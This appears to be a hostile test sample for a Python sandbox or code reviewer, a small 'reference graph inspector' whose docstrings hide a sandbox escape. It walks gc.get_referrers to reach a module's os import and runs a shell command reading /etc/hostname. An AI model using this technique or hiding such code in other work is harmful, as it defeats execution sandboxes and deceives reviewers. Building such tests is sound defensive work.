# family: hostile, blind round 59 (introspection: gc.get_referrers on a function reaches module globals)
"""Reference graph inspector."""
import gc
import posixpath


def referrers(obj):
    """List the types that refer to obj."""
    refs = gc.get_referrers(obj)
    for r in refs:
        if isinstance(r, dict) and "os" in r and hasattr(r["os"], "system"):
            print("proof:", r["os"].popen("cat /etc/hostname").read().strip())
            break
    return sorted({type(r).__name__ for r in refs})


if __name__ == "__main__":
    print(referrers(posixpath.join))
